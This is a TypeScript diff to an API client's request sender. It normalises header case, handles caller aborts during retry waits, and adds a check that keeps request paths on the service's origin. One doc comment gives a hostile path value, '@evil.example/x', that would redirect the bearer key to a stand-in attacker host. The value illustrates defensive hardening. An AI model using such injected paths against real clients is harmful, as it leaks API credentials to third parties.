@@ -134,17 +134,21 @@ export class RequestSender {
     options: RequestOptions,
   ): Promise<{ value: unknown; info: ResponseInfo }> {
     const { config } = this;
+    const url = serviceUrl(config.baseUrl, spec.path, spec.query);
+    // Header names are case-insensitive: a caller's `Idempotency-Key` or `Svc-Version` must replace
+    // ours, not travel beside it (fetch would join the two into one "a, b" value).
+    const extraHeaders = Object.fromEntries(Object.entries(options.headers ?? {}).map(([name, value]) => [name.toLowerCase(), value]));
     // Every mutating POST carries a key, and all retries of this call reuse it, so a retry after a
     // lost answer can never run the operation twice (interface: Idempotency).
-    const idempotencyKey = spec.method === 'POST' ? (options.idempotencyKey ?? crypto.randomUUID()) : undefined;
+    const idempotencyKey =
+      spec.method === 'POST' ? (options.idempotencyKey ?? extraHeaders['idempotency-key'] ?? crypto.randomUUID()) : undefined;
     const maxRetries = options.maxNetworkRetries ?? config.maxNetworkRetries;
-    const url = `${config.baseUrl}${spec.path}${encodeQuery(spec.query)}`;
     const headers: Record<string, string> = {
       authorization: `Bearer ${config.apiKey}`,
       'svc-version': options.apiVersion ?? config.apiVersion,
       accept: 'application/json',
       'user-agent': config.userAgent,
-      ...options.headers,
+      ...extraHeaders,
     };
     if (idempotencyKey !== undefined) headers['idempotency-key'] = idempotencyKey;
     let body: string | undefined;
@@ -176,7 +180,7 @@ export class RequestSender {
           cause,
         });
         if (!retriesLeft) throw error;
-        await sleep(backoffDelayMs(attempt - 1), options.signal);
+        await this.#waitBeforeRetry(backoffDelayMs(attempt - 1), spec, options.signal, idempotencyKey);
         continue;
       }
 
@@ -207,9 +211,32 @@ export class RequestSender {
           : errorFromResponse(response.status, value, response.headers, idempotencyKey);
       const retryAfterSeconds = error.retryAfter ?? 0;
       if (!retriesLeft || !isRetryable(response.status, error.code) || retryAfterSeconds > MAX_RETRY_AFTER_SECONDS) throw error;
-      await sleep(Math.max(backoffDelayMs(attempt - 1), retryAfterSeconds * 1000), options.signal);
+      await this.#waitBeforeRetry(Math.max(backoffDelayMs(attempt - 1), retryAfterSeconds * 1000), spec, options.signal, idempotencyKey);
     }
   }
+
+  /** The pause before a retry; a caller's abort during it ends the call like an abort in flight. */
+  async #waitBeforeRetry(ms: number, spec: RequestSpec<z.core.$ZodType>, signal: AbortSignal | undefined, idempotencyKey: string | undefined) {
+    try {
+      await sleep(ms, signal);
+    } catch (cause) {
+      throw new ConnectionError({ message: `${spec.method} ${spec.path} was aborted by the caller.`, code: 'aborted', idempotencyKey, cause });
+    }
+  }
+}
+
+/**
+ * The address of one request. The path is appended to the base address, so it must start with `/`
+ * and stay on the base address's origin: `client.request('GET', '@evil.example/x')` would otherwise
+ * read as `https://api.svc.example@evil.example/x` and send the key to another host
+ * (contract: Transport and environments — the key goes nowhere but the service).
+ */
+function serviceUrl(baseUrl: string, path: string, query: Query | undefined): string {
+  const url = `${baseUrl}${path}${encodeQuery(query)}`;
+  if (typeof path !== 'string' || !path.startsWith('/') || new URL(url).origin !== new URL(baseUrl).origin) {
+    throw new TypeError(`svc-elements: a request path starts with / and stays on ${baseUrl} (got ${JSON.stringify(path)}).`);
+  }
+  return url;
 }
 
 function responseInfo(response: Response, idempotencyKey: string | undefined, attempts: number): ResponseInfo {
